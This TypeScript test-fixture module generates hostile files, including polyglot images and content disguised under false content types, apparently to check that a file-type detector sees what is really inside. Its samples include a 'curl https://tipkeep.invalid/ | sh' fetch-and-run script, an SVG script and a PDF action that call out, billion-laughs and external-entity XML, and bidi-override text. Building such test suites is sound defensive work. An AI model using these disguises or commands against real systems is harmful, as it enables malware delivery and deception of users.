import { billionLaughs, bidiNames, externalEntity, scripts } from './payloads.ts';
import { bytesOf, utf8 } from './make/bytes.ts';
import { gif, gifSubBlocks } from './make/gif.ts';
import { jpeg, jpegSegment } from './make/jpeg.ts';
import { png, pngChunk } from './make/png.ts';
import { zip } from './make/zip.ts';
import { hostile, type Expected, type HostileFile } from './hostile-file.ts';

const tail = zip([{ name: 'a.txt', isStored: true, content: utf8('x') }]);

/** What is inside, whatever its sender claims. */
const insides: readonly (readonly [string, Uint8Array, Partial<Expected>])[] = [
  ['a page', utf8(`<!DOCTYPE html><html>${scripts.join('')}</html>`), { kind: 'html' }],
  ['a page in UTF-16', bytesOf('\xff\xfe', Buffer.from('<script>1</script>', 'utf16le')), { kind: 'html' }],
  ['a drawing with a script', utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://tipkeep.invalid/")</script></svg>'), { kind: 'svg' }],
  ['a drawing with something foreign inside', utf8('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="https://tipkeep.invalid/"/></foreignObject></svg>'), { kind: 'svg' }],
  ['a billion laughs', utf8(billionLaughs), { kind: 'text' }],
  ['an entity from elsewhere', utf8(externalEntity), { kind: 'text' }],
  ['a PDF that calls out', utf8('%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(https://tipkeep.invalid/)>>>>endobj\n%%EOF'), { kind: 'pdf' }],
  ['a PDF of JavaScript', utf8('%PDF-1.4\n1 0 obj<</Names<</JavaScript 2 0 R>>>>endobj\n%%EOF'), { kind: 'pdf' }],
  ['an Office document of old', bytesOf('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', new Uint8Array(600)), { kind: 'office' }],
  ['rich text with an object', utf8('{\\rtf1{\\object\\objupdate\\objautlink}}'), { kind: 'office' }],
  ['a program for Windows', bytesOf('MZ\x90\0\x03\0', new Uint8Array(200)), { kind: 'program' }],
  ['a program for Linux', bytesOf('\x7fELF\x02\x01\x01\0', new Uint8Array(200)), { kind: 'program' }],
  ['a shortcut', bytesOf('L\0\0\0\x01\x14\x02\0', new Uint8Array(200)), { kind: 'program' }],
  ['a script', utf8('#!/bin/sh\ncurl https://tipkeep.invalid/ | sh\n'), { kind: 'program' }],
  ['a video', bytesOf('\0\0\0\x18ftypisom', new Uint8Array(200)), { kind: 'video' }],
  ['a playlist', utf8('#EXTM3U\nhttps://tipkeep.invalid/a.ts\n'), { kind: 'text' }],
  ['a Mark of a page saved whole', utf8('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n'), { kind: 'html', imported: 'container-empty' }],
  ['a compressed file', bytesOf([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), { kind: 'archive' }],
];
const claims = ['image/png', 'image/jpeg', 'audio/ogg', 'text/plain', 'application/pdf'] as const;

function* polyglots(): Generator<HostileFile> {
  const pictures: readonly (readonly [string, (inside: string) => Uint8Array, Partial<Expected>])[] = [
    ['jpeg', (inside) => jpeg(8, 8, jpegSegment(0xfe, inside)), { kind: 'picture', header: 'jpeg 8x8', facts: ['Comment'] }],
    ['png', (inside) => png(8, 8, pngChunk('tEXt', `Comment\0${inside}`)), { kind: 'picture', header: 'png 8x8', facts: ['Comment'] }],
    ['gif', (inside) => gif(8, 8, [0x21, 0xfe], gifSubBlocks(utf8(inside))), { kind: 'picture', header: 'gif 8x8' }],
  ];
  for (const [name, make, expected] of pictures) {
    yield hostile(`${name} that is an archive`, bytesOf(make('x'), tail), { ...expected, also: ['archive'], listed: 1 }, `image/${name}`);
    yield hostile(`${name} that is a PDF`, make('%PDF-1.4'), { ...expected, also: ['pdf'] }, `image/${name}`);
    yield hostile(`${name} that is a page`, make('<html><script>1</script>'), { ...expected, also: ['html'] }, `image/${name}`);
    yield hostile(`${name} that is all three`, bytesOf(make('%PDF-1.4 <script>1</script>'), tail), { ...expected, also: ['pdf', 'archive', 'html'], listed: 1 }, `image/${name}`);
  }
  yield hostile('pdf that is an archive', bytesOf('%PDF-1.4\n', tail), { kind: 'pdf', also: ['archive'], listed: 1 }, 'application/pdf');
  yield hostile('page that is an archive', bytesOf('<html>', ' '.repeat(100), tail), { kind: 'html', also: ['archive'], listed: 1 }, 'text/html');
  yield hostile('program that is an archive', bytesOf('MZ\x90\0', new Uint8Array(100), tail), { kind: 'program', also: ['archive'], listed: 1 }, 'application/zip');
  yield hostile('sound that is an archive', bytesOf('ID3\x04\0\0\0\0\0\0', tail), { kind: 'sound', also: ['archive'], listed: 1 }, 'audio/mpeg');
  yield hostile('text that is an archive', bytesOf('hello ', 'x'.repeat(100), tail), { kind: 'text', also: ['archive'], listed: 1 }, 'text/plain');
}

function* texts(): Generator<HostileFile> {
  for (const [index, text] of bidiNames.entries()) yield hostile(`text that deceives, ${index}`, utf8(`see ${text.repeat(20)} there`), { kind: 'text' }, 'text/plain');
  for (const [index, text] of scripts.entries()) yield hostile(`text that does something, ${index}`, utf8(`words first: ${text}`), { kind: 'text' }, 'text/plain');
  yield hostile('text of overrides only', utf8('\u202e'.repeat(60_000)), { kind: 'text' }, 'text/plain');
  yield hostile('text of one line', utf8('x'.repeat(200_000)), { kind: 'text' }, 'text/plain');
}

export function* hostileDisguises(): Generator<HostileFile> {
  for (const [name, bytes, expected] of insides) for (const claimed of claims) yield hostile(`${name}, said to be ${claimed}`, bytes, expected, claimed);
  yield* polyglots();
  yield* texts();
}
